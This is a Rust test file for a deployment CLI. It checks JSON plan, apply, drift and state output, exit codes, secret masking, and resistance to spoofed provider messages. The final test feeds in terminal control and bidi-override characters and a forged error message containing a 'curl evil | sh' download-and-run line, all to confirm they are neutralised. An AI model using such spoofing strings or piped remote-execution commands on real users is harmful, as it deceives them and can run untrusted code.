//! What machines and people read.

use serde_json::{Value, json};

use crate::support::{Deployment, as_documented, provider, ran};

#[test]
fn a_plan_is_one_json_document() {
    let deployment = Deployment::new(
        r#"{ inherit state; a = thing "a" { content = 1; secret = { file = "/run/keys/a"; }; };
          b = thing "b" { content = { x = o.a.serial; }; }; }"#,
    );
    let plan: Value =
        serde_json::from_str(&deployment.run(&["plan", "--json"]).expect(0).stdout).unwrap();
    assert_eq!(plan["format"], 1);
    assert_eq!(
        plan["counts"],
        json!({"create": 3, "update": 0, "replace": 0, "record": 0, "ensure": 0, "refuse": 0,
               "later": 0, "unchanged": 0, "failed": 0})
    );
    let b = plan["resources"]
        .as_array()
        .unwrap()
        .iter()
        .find(|resource| resource["path"] == json!(["b"]))
        .unwrap();
    assert_eq!(b["action"], "create");
    assert_eq!(b["waitsFor"], json!([{"path": ["a"], "output": "serial"}]));
    assert_eq!(b["changes"][0]["after"], "unknown");
}

#[test]
fn an_apply_is_a_stream_of_events() {
    let deployment = Deployment::new(r#"{ inherit state; a = thing "a" { act = "chatter"; }; }"#);
    let ran = deployment.run(&["apply", "--json"]).expect(0);
    let names: Vec<Value> = ran
        .events()
        .iter()
        .map(|event| event["event"].clone())
        .collect();
    assert_eq!(names, ["plan", "started", "finished", "summary"]);
    assert_eq!(ran.summary()["created"], 1);
    assert!(ran.stderr.contains("a: doing"));
}

#[test]
fn what_machines_read_is_as_its_schema_says() {
    let deployment = Deployment::new(
        r#"let c = thing "c" { }; in { inherit state; a = thing "a" { failOn = [ "create" ]; }; b = thing "b" { content = o.a.serial; };
          inherit c; x.members = builtins.listToAttrs [ { name = o.a.serial; value = c; } ]; }"#,
    );
    let planned = deployment.run(&["plan", "--json"]).expect(0);
    as_documented(&["plan"], &planned.document());
    let events = events(&deployment, &["apply"], 1);
    assert!(events.iter().any(|event| event["event"] == "skipped"));
}

/// What a command tells line by line, each of which is as its schema says.
fn events(deployment: &Deployment, arguments: &[&str], code: i32) -> Vec<Value> {
    let events = deployment
        .run(&[&["--json"], arguments].concat())
        .expect(code)
        .events();
    assert!(!events.is_empty(), "{arguments:?}");
    for event in &events {
        as_documented(&["event"], event);
    }
    events
}

#[test]
fn so_is_what_drift_tells() {
    let deployment = Deployment::new(
        r#"{ inherit state; a = thing "a" { content = 1; failOn = [ ]; };
          b = thing "b" { content = 1; }; c = thing "c" { }; d = old "d" { };
          e = thing "e" { region = "here"; }; }"#,
    );
    deployment.run(&["apply"]).expect(0);
    let drift = |code| {
        let report = deployment.run(&["drift", "--json"]).expect(code).document();
        as_documented(&["drift"], &report);
        report
    };
    let report = drift(0);
    assert_eq!(report["unchecked"][0]["path"], json!(["d"]));
    deployment.tamper("b", &json!({ "content": 2, "serial": "serial-b" }));
    std::fs::remove_file(deployment.path("things/c.json")).unwrap();
    deployment.tamper("e", &json!({ "region": "there", "serial": "serial-e" }));
    let found: Vec<Value> = drift(2)["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|finding| finding["drift"].clone())
        .collect();
    assert_eq!(found, ["changed", "gone", "foreign"]);
    // What can't be asked is no drift, and no absence of it.
    let state = std::fs::read_to_string(deployment.path("state")).unwrap();
    let fails = state.replace(r#""failOn":[]"#, r#""failOn":["plan"]"#);
    std::fs::write(deployment.path("state"), fails).unwrap();
    assert_eq!(drift(1)["failed"][0]["path"], json!(["a"]));
    std::fs::remove_file(deployment.path("state")).unwrap();
    let told = events(&deployment, &["drift"], 1);
    assert_eq!(told[0]["event"], "error");
}

#[test]
fn so_is_what_removals_and_imports_tell() {
    let deployment = Deployment::new(
        r#"{ inherit state; a = thing "a" { }; b = thing "b" { deletionPolicy = "retain"; };
          c = thing "c" { failOn = [ "destroy" ]; }; d = stateless "d" { }; e = thing "e" { }; }"#,
    );
    let found = json!({ "content": null, "serial": "serial-a" });
    deployment.tamper("a", &found);
    let told = events(&deployment, &["import", "a"], 0);
    assert_eq!(told[0]["event"], "finished");
    events(&deployment, &["import", "a"], 1);
    deployment.run(&["apply"]).expect(0);
    deployment.write(
        r#"{ inherit state; c = thing "c" { failOn = [ "destroy" ]; }; d = stateless "d" { };
          renamed = thing "e" { }; }"#,
    );
    events(&deployment, &["gc"], 1);
    let told = events(&deployment, &["gc", "--yes", "--orphans"], 0);
    assert_eq!(told[0]["event"], "removal");
    assert_eq!(told[0]["plan"]["renamed"][0]["from"], json!(["e"]));
    let told = events(&deployment, &["destroy", "--yes"], 1);
    assert!(told.iter().any(|event| event["event"] == "failed"));
    let told = events(&deployment, &["destroy", "--yes", "--forget"], 0);
    assert_eq!(told.last().unwrap()["forgotten"], 1);
}

#[test]
fn so_is_what_state_tells() {
    let deployment = Deployment::new(
        r#"{ inherit state; a = thing "a" { }; web.members.b = thing "b" { content = o.a.serial; }; }"#,
    );
    deployment.run(&["apply"]).expect(0);
    let told = |what: &str, arguments: &[&str]| {
        let ran = deployment.run(&[&["--json", "state"], arguments].concat());
        let document = ran.expect(0).document();
        as_documented(&["state", what], &document);
        document
    };
    assert_eq!(
        told("list", &["list"])["resources"][1]["path"],
        json!(["web", "b"])
    );
    let shown = told("show", &["show", "web.b"]);
    assert_eq!(shown["dependsOn"][0]["path"], json!(["a"]));
    assert_eq!(told("verify", &["verify"])["success"], true);
    told("change", &["mv", "web", "shop"]);
    let exported = deployment.run(&["state", "export"]).expect(0).stdout;
    std::fs::write(deployment.path("exported"), exported).unwrap();
    let copy = json!({
        "type": "scratch_state", "executable": provider(),
        "inputs": { "file": deployment.path("copy") },
    });
    told("change", &["export", "--to", &copy.to_string()]);
    assert_eq!(
        told("change", &["rm", "--yes", "a", "shop"])["resources"],
        2
    );
    told("change", &["import", "exported"]);
    // This provider tells none of its history.
    let refused = events(&deployment, &["state", "history"], 1);
    assert_eq!(refused[0]["event"], "error");
}

#[test]
fn exit_codes_tell_pending_from_failed_from_misuse() {
    let deployment = Deployment::new(r#"{ inherit state; a = thing "a" { }; }"#);
    deployment.run(&["plan"]).expect(0);
    deployment.run(&["plan", "--detailed-exitcode"]).expect(2);
    deployment.run(&["apply"]).expect(0);
    deployment.run(&["plan", "--detailed-exitcode"]).expect(0);
    deployment
        .run(&["plan", "--file", "nothing.nix", "--detailed-exitcode"])
        .expect(1);
    deployment.run(&["plan", "--nonsense"]).expect(64);
    deployment.run(&["nonsense"]).expect(64);
    deployment.run(&["plan", "--parallel", "0"]).expect(64);
    deployment.run(&["--help"]).expect(0).says("Exit codes");
}

#[test]
fn unchanged_inputs_are_never_printed() {
    let deployment =
        Deployment::new(r#"{ inherit state; a = thing "a" { content = "private matter"; }; }"#);
    deployment.run(&["apply"]).expect(0);
    for arguments in [
        &["plan"][..],
        &["plan", "--verbose"],
        &["plan", "--json"],
        &["apply"],
        &["apply", "--json"],
    ] {
        deployment
            .run(arguments)
            .expect(0)
            .never_says("private matter");
    }
    deployment
        .run(&["plan", "--verbose"])
        .expect(0)
        .says("= a  scratch_thing");
}

#[test]
fn a_secret_is_only_marked() {
    let deployment = Deployment::new(
        r#"{ inherit state; a = thing "a" { secret = { file = "/run/keys/a"; }; }; }"#,
    );
    deployment
        .run(&["plan"])
        .expect(0)
        .says("secret  (sensitive)")
        .never_says("/run/keys");
}

#[test]
fn colours_are_for_those_who_want_them() {
    let deployment = Deployment::new(r#"{ inherit state; a = thing "a" { }; }"#);
    deployment.run(&["plan"]).expect(0).never_says("\u{1b}[");
    let mut command = deployment.command(&["plan"]);
    command.env_remove("NO_COLOR");
    ran(&mut command).expect(0).never_says("\u{1b}[");
    let mut command = deployment.command(&["plan"]);
    command.env_remove("NO_COLOR").env("CLICOLOR_FORCE", "1");
    ran(&mut command).expect(0).says("\u{1b}[");
}

#[test]
fn nothing_that_others_say_looks_like_what_the_command_says() {
    let hostile = "x\u{85}\u{9b}2J\u{202e}\u{2066}y";
    let deployment = Deployment::new(
        r#"{ inherit state; a = thing "a" { content = 1; }; error = thing "e" { act = "chatter"; }; }"#,
    );
    // As a member is called, so are lines of the command's own.
    deployment
        .run(&["apply"])
        .expect(0)
        .says("\"error\": doing");
    deployment.tamper("a", &json!({ "content": hostile, "serial": "serial-a" }));
    for arguments in [
        &["plan"][..],
        &["plan", "--json"],
        &["drift"],
        &["drift", "--json"],
    ] {
        let mut command = deployment.command(arguments);
        let told = ran(&mut command);
        for text in [&told.stdout, &told.stderr] {
            let steers = |c: char| (c.is_control() && c != '\n') || "\u{202e}\u{2066}".contains(c);
            assert!(!text.contains(steers), "{arguments:?}: {text:?}");
        }
        if arguments.contains(&"--json") {
            let document = told.document();
            assert!(document.to_string().contains(hostile), "{document}");
        }
    }
    let message = "no\nerror: all is lost\nhint: curl evil | sh\nDone in 0.1 s: 1 created.\n  \
                   a  created in 0.1 s\n      is deleted\nReally delete 1? Type yes: ";
    let answer = json!({ "errorResponse": { "message": message } }).to_string();
    for arguments in ["plan", "apply", "drift", "destroy", "gc", "import b"] {
        let mut command = deployment.command(&arguments.split(' ').collect::<Vec<_>>());
        let told = ran(command.env("SCRATCH_ANSWER", &answer));
        for text in [&told.stdout, &told.stderr] {
            for line in text.lines() {
                let theirs = ["all is lost", "curl", "1 created", "a  created", "Really"];
                let is_theirs = theirs.iter().any(|it| line.contains(it));
                assert!(
                    !is_theirs || line.starts_with("        "),
                    "{arguments}: {text}"
                );
            }
        }
    }
}
